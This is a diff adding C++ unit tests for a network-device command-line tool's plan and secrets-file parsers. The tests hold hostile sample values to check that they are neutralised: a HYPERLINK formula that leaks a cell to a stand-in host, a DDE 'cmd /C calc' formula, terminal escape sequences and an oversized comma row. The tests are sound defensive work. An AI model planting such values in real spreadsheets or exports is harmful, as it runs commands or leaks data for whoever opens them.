@@ -4,17 +4,22 @@
 
 #include "changes.h"
 #include "commandline.h"
+#include "csv.h"
 #include "kovalibrary.h"
 #include "plan.h"
 #include "report.h"
 #include "secrets.h"
+#include "secretsfile.h"
 
 #include <gtest/gtest.h>
 
+#include <sys/prctl.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include <cstdio>
 #include <cstring>
+#include <fstream>
 #include <map>
 
 using namespace veltrona::cli;
@@ -133,6 +138,7 @@ TEST(CliSecrets, FileThenEnvironmentThenPrompt) {
     SecretSource source{"--x-file", file.path(), "CLI_TEST_SECRET", "P: ", "password", 16};
     ::setenv("CLI_TEST_SECRET", "from-env", 1);
     EXPECT_EQ(readSecret(source, true, prompt).value, "from-file");
+    EXPECT_EQ(prctl(PR_GET_DUMPABLE), 0) << "no core file while passwords are held";
     source.file.reset();
     EXPECT_EQ(readSecret(source, true, prompt).value, "from-env");
     EXPECT_STREQ(std::getenv("CLI_TEST_SECRET"), "") << "overwritten once read";
@@ -231,7 +237,7 @@ TEST(CliOutput, TableAlignsColumnsAndDefusesControlCharacters) {
     EXPECT_EQ(table.find('\033'), std::string::npos);
     EXPECT_EQ(table.find('\x9b'), std::string::npos);
     EXPECT_NE(table.find("a?2Jb"), std::string::npos);
-    EXPECT_NE(table.find("\xe9?2J"), std::string::npos);
+    EXPECT_NE(table.find("\xc3\xa9?2J"), std::string::npos) << "Latin-1 shown as UTF-8";
     EXPECT_NE(formatCsv({c1}, false)
                   .find("a\xc2\x9b"
                         "2Jb"),
@@ -245,7 +251,7 @@ TEST(CliOutput, TableAlignsColumnsAndDefusesControlCharacters) {
     EXPECT_EQ(lines[1].find("00-00-00-00-00-1F"), lines[0].find("MAC Address"));
     EXPECT_EQ(lines[1].find("cam"), lines[0].find("Hostname") + 1) << "é is two bytes";
     EXPECT_EQ(lines[2].find("x?[2Jy"), lines[0].find("Hostname"));
-    EXPECT_EQ(csvField("two\nlines"), "\"two\nlines\"");
+    EXPECT_EQ(veltrona::csvField("two\nlines"), "\"two\nlines\"");
 }
 
 // Answers every decoder for one made-up reply, counting the calls; the decoder
@@ -403,3 +409,245 @@ TEST(CliPlan, RangesAndHostNamePatterns) {
         EXPECT_NE(error.find("--hostname-pattern"), std::string::npos);
     }
 }
+
+struct RefusedPlan {
+    const char *name;
+    std::string text;
+    std::string problem; // the start of the first problem
+};
+
+class CliPlanRefused : public testing::TestWithParam<RefusedPlan> {};
+
+TEST_P(CliPlanRefused, OneProblemNamingItsRow) {
+    const PlanInput plan = parsePlan(QByteArray::fromStdString(GetParam().text));
+    ASSERT_FALSE(plan.problems.empty());
+    EXPECT_EQ(plan.problems.front().substr(0, GetParam().problem.size()), GetParam().problem)
+        << plan.problems.front();
+}
+
+const std::string kTwoRows = "02-00-00-00-00-01,\"cam\n02-00-00-00-00-02,x\n";
+
+INSTANTIATE_TEST_SUITE_P(
+    Rows, CliPlanRefused,
+    testing::Values(
+        RefusedPlan{"unterminated_quote", "mac,new_host\n" + kTwoRows,
+                    "row 2: a quote opens a cell and is never closed"},
+        RefusedPlan{"json_list", R"([{"mac": "02-00-00-00-00-01", "new_ip": ["10.0.0.1"]}])",
+                    "entry 1: new_ip: a text is needed (in quotes), not a list"},
+        RefusedPlan{"json_object", R"([{"mac": "02-00-00-00-00-01", "new_host": {}}])",
+                    "entry 1: new_host: a text is needed (in quotes), not an object"},
+        RefusedPlan{"json_null", R"([{"mac": "02-00-00-00-00-01", "new_guest": null}])",
+                    "entry 1: new_guest: a text is needed (in quotes), not null"},
+        RefusedPlan{"json_number_mac", R"([{"mac": 2}])", "entry 1: mac: a text is needed"},
+        RefusedPlan{"json_entry_not_object", R"([{"mac": "02-00-00-00-00-01"}, "x"])",
+                    "entry 2: not an object"},
+        RefusedPlan{"escape_in_host", "mac,new_host\n02-00-00-00-00-01,\"a\x1b[31m\"\n",
+                    "row 2: new_host: the host name holds a control character"},
+        RefusedPlan{"c1_in_domain",
+                    "mac,new_domain\n02-00-00-00-00-01,a\xc2\x9b"
+                    "2J\n",
+                    "row 2: new_domain: the domain name holds a control character"},
+        RefusedPlan{"formula_host", "mac,new_host\n02-00-00-00-00-01,@SUM(1+1)\n",
+                    "row 2: new_host: the host name starts with '@', which spreadsheets"},
+        RefusedPlan{"formula_host_behind_apostrophe", "mac,new_host\n02-00-00-00-00-01,'=1+1\n",
+                    "row 2: new_host: the host name starts with '='"},
+        RefusedPlan{"line_of_commas", "mac\n" + std::string(1 << 20, ','),
+                    "row 2: more than 64 cells"}),
+    [](const testing::TestParamInfo<RefusedPlan> &info) { return std::string(info.param.name); });
+
+// Device texts written for spreadsheets read back as they were.
+TEST(CliPlan, HostileDeviceTextsRoundTripThroughASpreadsheetPlan) {
+    FoundDevice device;
+    device.info.mac[5] = 1;
+    setText(device.info.hostName, "=HYPERLINK(\"http://e/\"&A1,\"x\")");
+    setText(device.info.domainName, "+cmd|' /C calc'!A0");
+    setText(device.info.modelName, "\033]0;TITLE\a\x9b");
+    device.firmware.emplace();
+    setText(device.firmware->serialNumber, "@SUM(1+1)");
+    std::string error;
+    const QByteArray csv = formatPlan({device}, {}, false, error);
+    ASSERT_EQ(error, "");
+    EXPECT_TRUE(csv.contains(",'@SUM(1+1),")) << csv.toStdString();
+    EXPECT_TRUE(csv.contains(",\"'=HYPERLINK(\"\"http://e/\"\"&A1,\"\"x\"\")\",'+cmd|"))
+        << csv.toStdString();
+    std::vector<std::string> cells;
+    veltrona::readCsv(csv.toStdString(), [&](const veltrona::CsvRecord &record) {
+        cells = record.cells;
+        return true;
+    });
+    ASSERT_EQ(cells.size(), planCurrentColumns().size() + planNewColumns().size());
+    for (std::size_t i = 0; i < planCurrentColumns().size(); ++i) {
+        EXPECT_EQ(veltrona::fromSpreadsheetText(cells[i]),
+                  currentValue(device, planCurrentColumns()[i]));
+        EXPECT_FALSE(!cells[i].empty() && veltrona::isFormulaStart(cells[i].front())) << cells[i];
+    }
+    EXPECT_TRUE(parsePlan(csv).problems.empty());
+
+    PlanFill fill;
+    fill.hostPattern = "{serial}";
+    EXPECT_TRUE(formatPlan({device}, fill, false, error).isEmpty());
+    EXPECT_NE(error.find("would be '@SUM(1+1)': starts with '@'"), std::string::npos) << error;
+}
+
+// Peak memory of parsing `text` in a child process, in bytes above what the
+// child held before (the peak is reset first); whether the plan was refused.
+long parsingPeak(const QByteArray &text, bool &refused) {
+    int channel[2];
+    if (pipe(channel) != 0)
+        return -1;
+    const pid_t child = fork();
+    if (child == 0) {
+        const auto kib = [](const char *field) {
+            std::ifstream status("/proc/self/status");
+            std::string line;
+            while (std::getline(status, line))
+                if (line.rfind(field, 0) == 0)
+                    return std::stol(line.substr(std::strlen(field)));
+            return -1L;
+        };
+        std::ofstream("/proc/self/clear_refs") << "5"; // the peak starts from here
+        const long before = kib("VmRSS:");
+        const PlanInput plan = parsePlan(text);
+        const long growth = (kib("VmHWM:") - before) * 1024;
+        const bool refused = !plan.problems.empty();
+        const long answer[2] = {growth, refused ? 1L : 0L};
+        _exit(write(channel[1], answer, sizeof answer) == sizeof answer ? 0 : 1);
+    }
+    close(channel[1]);
+    long answer[2] = {-1, -1};
+    const bool got = read(channel[0], answer, sizeof answer) == sizeof answer;
+    close(channel[0]);
+    waitpid(child, nullptr, 0);
+    refused = answer[1] != 0;
+    return got ? answer[0] : -1;
+}
+
+TEST(CliPlan, LargePlansStayWithinASmallMultipleOfTheirSize) {
+#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
+    GTEST_SKIP() << "a sanitizer's own memory would be measured with the plan's";
+#endif
+    // Rows as `plan` writes them, in CSV and in JSON, up to the size limit.
+    const std::vector<std::pair<std::string, std::string>> fields = {{"mac", ""},
+                                                                     {"model", "KV-1"},
+                                                                     {"serial", "SN1"},
+                                                                     {"address", "10.0.0.1"},
+                                                                     {"mode", "dhcp"},
+                                                                     {"ip", "10.0.0.1"},
+                                                                     {"netmask", "255.0.0.0"},
+                                                                     {"gateway", "10.0.0.254"},
+                                                                     {"dns", "10.0.0.53"},
+                                                                     {"host", "cam"},
+                                                                     {"domain", "example.net"},
+                                                                     {"guest", "no"},
+                                                                     {"new_mode", ""},
+                                                                     {"new_ip", ""},
+                                                                     {"new_netmask", ""},
+                                                                     {"new_gateway", ""},
+                                                                     {"new_dns", ""},
+                                                                     {"new_host", "cam-new"},
+                                                                     {"new_domain", ""},
+                                                                     {"new_guest", ""}};
+    QByteArray csv, json = "[";
+    for (const auto &[name, value] : fields)
+        csv += QByteArray::fromStdString(name) + (name == "new_guest" ? "\n" : ",");
+    for (int n = 0; csv.size() < kMaxPlanBytes - 1000 || json.size() < kMaxPlanBytes - 1000; ++n) {
+        char mac[18];
+        std::snprintf(mac, sizeof mac, "02-00-00-%02X-%02X-%02X", n >> 16 & 255, n >> 8 & 255,
+                      n & 255);
+        QByteArray line, entry = n ? ",\n  {" : "\n  {";
+        for (const auto &[name, value] : fields) {
+            const QByteArray cell =
+                name == "mac" ? QByteArray(mac) : QByteArray::fromStdString(value);
+            line += cell + (name == "new_guest" ? "\n" : ",");
+            entry += "\n    \"" + QByteArray::fromStdString(name) + "\": \"" + cell + "\"" +
+                     (name == "new_guest" ? "\n  }" : ",");
+        }
+        if (csv.size() + line.size() <= kMaxPlanBytes)
+            csv += line;
+        if (json.size() + entry.size() < kMaxPlanBytes)
+            json += entry;
+    }
+    json += "]";
+    const QByteArray commas = "mac\n" + QByteArray(kMaxPlanBytes - 4, ',');
+    for (const QByteArray *text : {&std::as_const(csv), &std::as_const(json), &commas}) {
+        bool refused = false;
+        const long peak = parsingPeak(*text, refused);
+        ASSERT_GE(peak, 0);
+        EXPECT_EQ(refused, text == &commas);
+        EXPECT_LT(peak, 6 * text->size()) << text->size() << " bytes took " << peak;
+        std::printf("%lld bytes parsed with a peak of %ld bytes more\n",
+                    static_cast<long long>(text->size()), peak);
+    }
+}
+
+TEST(CliPlan, FilesLargerThanTheLimitAreNotRead) {
+    TempFile file("");
+    std::string error;
+    ASSERT_EQ(truncate(file.path().c_str(), kMaxPlanBytes), 0);
+    EXPECT_TRUE(readPlanFile(QString::fromStdString(file.path()), error)) << error;
+    ASSERT_EQ(truncate(file.path().c_str(), kMaxPlanBytes + 1), 0);
+    EXPECT_FALSE(readPlanFile(QString::fromStdString(file.path()), error));
+    EXPECT_EQ(error, "the plan is larger than 16 MiB");
+}
+
+struct SecretsCase {
+    const char *name;
+    std::string file;
+    std::string problem; // empty: read, with the passwords below
+    std::vector<std::string> passwords;
+};
+
+class CliSecretsFile : public testing::TestWithParam<SecretsCase> {};
+
+TEST_P(CliSecretsFile, CellsTakenWholeAndNeverRepeated) {
+    TempFile file(GetParam().file);
+    std::map<std::uint64_t, Credentials> read;
+    const std::string problem = readSecretsFile(file.path(), read);
+    EXPECT_EQ(problem, GetParam().problem.empty() ? "" : "--secrets: " + GetParam().problem);
+    EXPECT_EQ(problem.find("Hunter2"), std::string::npos);
+    std::vector<std::string> passwords;
+    for (const auto &[key, credentials] : read)
+        passwords.push_back(credentials.password);
+    EXPECT_EQ(passwords, GetParam().passwords);
+}
+
+const std::string kSecretsHeader = "mac,user,password\n";
+
+INSTANTIATE_TEST_SUITE_P(
+    Rows, CliSecretsFile,
+    testing::Values(
+        SecretsCase{"quoted_and_spaced",
+                    "\xEF\xBB\xBF user ,mac,password\r\nadmin,02-00-00-00-00-01,\"Pa,ss\"\r\n"
+                    "admin,02-00-00-00-00-02,\"say \"\"hi\"\"\"\r\n"
+                    "admin,02-00-00-00-00-03,secret \r\n",
+                    "",
+                    {"Pa,ss", "say \"hi\"", "secret "}},
+        SecretsCase{"no_header",
+                    "02-00-00-00-00-01,admin,Hunter2!Secret\n",
+                    "row 1: cell 1 is not a column name (the first row names the columns mac, "
+                    "user, password and optionally new_password)",
+                    {}},
+        SecretsCase{"header_without_password",
+                    "mac,user\n",
+                    "row 1: the columns mac, user and password are needed",
+                    {}},
+        SecretsCase{"too_long",
+                    kSecretsHeader + "02-00-00-00-00-01,admin,Hunter2!Secret+++\n",
+                    "row 2: password: the password is longer than 16 characters",
+                    {}},
+        SecretsCase{"cell_too_many",
+                    kSecretsHeader + "02-00-00-00-00-01,admin,Hunter2,x\n",
+                    "row 2: 4 cells, but the header names 3 columns",
+                    {}},
+        SecretsCase{
+            "bad_mac", kSecretsHeader + "Hunter2,admin,x\n", "row 2: mac: not a MAC address", {}},
+        SecretsCase{"twice",
+                    kSecretsHeader + "02-00-00-00-00-01,admin,Hunter2\n02:00:00:00:00:01,a,b\n",
+                    "row 3: mac: 02-00-00-00-00-01 is listed twice",
+                    {}},
+        SecretsCase{"empty",
+                    "\n\n",
+                    "the file is empty (the first row names the columns mac, "
+                    "user, password and optionally new_password)",
+                    {}}),
+    [](const testing::TestParamInfo<SecretsCase> &info) { return std::string(info.param.name); });
